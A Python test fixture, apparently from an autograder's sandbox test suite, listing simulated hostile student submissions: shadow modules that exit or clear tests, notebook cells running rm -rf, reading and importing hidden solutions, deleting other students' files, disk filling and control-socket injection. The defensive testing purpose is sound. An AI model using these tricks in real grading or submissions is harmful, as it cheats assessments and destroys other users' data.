    Case("shadow-modules", "correct, plus numpy.py, conftest.py, sitecustomize.py, usercustomize.py, pytest.py, "
                           "_validate.py, __init__.py and a solutions/ folder that break whatever imports them",
         lambda ctx: {**dict(_full()),
                      "numpy.py": "raise SystemExit('numpy is broken now')\n",
                      "conftest.py": "import pytest\n\ndef pytest_collection_modifyitems(items):\n    items.clear()\n",
                      "sitecustomize.py": "import builtins\nbuiltins.print = lambda *a, **k: None\nimport os\nos._exit(0)\n",
                      "usercustomize.py": "import os\nos._exit(0)\n",
                      "pytest.py": "import os\nos._exit(0)\n",
                      "_validate.py": "def check_arrays(**kw):\n    raise SystemExit('no')\n",
                      "__init__.py": "import os\nos._exit(0)\n",
                      "solutions/__init__.py": "",
                      "solutions/rnn.py": "def rnn_step(*a):\n    return 0\n"},
         frozenset()),
    Case("notebook-shell-escapes", "rnn as a notebook whose cells run !touch, %env and !rm -rf (magics are not Python)",
         _notebook, frozenset()),
    Case("zip-too-many-files", "a zip of a correct hand-in plus 600 junk files",
         _many_files, ALL, zipped=True, unreadable=True),
    Case("import-solutions", "mean_pool imports solutions, autograder and tests; then removes the import blocker "
                             "and puts the kit on sys.path",
         _steal_by_import, frozenset({"mean_pool"}), report=True,
         needs_bwrap="without bubblewrap the kit's folder is readable in the worker: with the import blocker "
                     "removed, `import solutions` works"),
    Case("read-solutions", "pad_or_truncate reads solutions/*.py by guessing paths and walking the filesystem",
         _steal_by_reading, frozenset({"pad_or_truncate"}), report=True,
         needs_bwrap="without bubblewrap the worker sees the whole filesystem, solutions/ included"),
    Case("write-files", "rnn_readout creates files in /tmp, its own folder, solutions/, the output folder and "
                        "another student's folder, and opens solutions/rnn.py for writing",
         _write_files, frozenset({"rnn_readout"}), report=True,
         needs_bwrap="without bubblewrap the worker shares the machine's /tmp and filesystem"),
    Case("delete-files", "rnn_readout deletes other students' files and the output folder, everything it can "
                         "reach and all of /tmp",
         _delete_files, frozenset({"rnn_readout"}), report=True,
         needs_bwrap="without bubblewrap the worker shares the machine's filesystem"),
    Case("network", "rnn_readout connects over TCP, HTTP and UDP to a port the test listens on at 127.0.0.1",
         _network, frozenset({"rnn_readout"}), report=True,
         needs_bwrap="without bubblewrap the worker shares the machine's network"),
    # -- attacks on other students (isolated: graded in their own class) ----------------
    Case("pid-squatting", "rnn_readout creates /tmp/rnn-work-<pid> for the next 400 pids, so that the next "
                          "workers cannot make their private temp dir",
         _pid_squatting, frozenset()),
    Case("fill-scratch", "rnn_readout fills its scratch space and the sandbox's /tmp (320 MB in files of 16 MB) "
                         "and makes 20,000 empty files, so that the next student's worker has no room (on a "
                         "real disk that can take longer than a call may: its own checks may time out)",
         _fill_scratch, frozenset({"rnn_readout"}),
         may_pass=("_types_and_shapes", "_fixed_inputs", "_random_inputs", "_hidden_inputs", "_repeats_itself")),
    Case("latch-replay", "lstm_forward and gru_forward keep the reference latch weights a check hands them, and "
                         "latch_lstm_params / latch_gru_params return those instead of being written",
         _latch_replay, dependents("latch_lstm_params", "latch_gru_params")),
    Case("control-socket-inject", "rnn_readout writes fake kill replies into every socket it holds (the fork "
                                  "server's control socket)",
         _control_socket, frozenset()),
)

ISOLATED = tuple(c for c in CASES if c.isolated)

#: words in an ATTACK-REPORT entry that mean the attack got somewhere
SUCCESS = ("KILLED", "WROTE", "OPENED FOR WRITING", "IMPORTED", "READ", "FOUND", "CONNECTED", "STARTED", "RAISED",
           "BECAME ROOT", "ALLOCATED")


def attack_report(message):
    """The ATTACK-REPORT dict in a check's message, or None."""
    at = message.find("ATTACK-REPORT ")
    if at < 0:
        return None
    line = message[at + len("ATTACK-REPORT "):].splitlines()[0]
    try:
        return json.loads(line)
    except ValueError:
        return None


def successes(report):
    """The entries of an ATTACK-REPORT that say the attack worked."""
    out = {k: v for k, v in report.items() if isinstance(v, str) and any(word in v for word in SUCCESS)}
    if report.get("removed"):
        out["removed"] = report["removed"]
    return out
MAIN = tuple(c for c in CASES if not c.isolated)
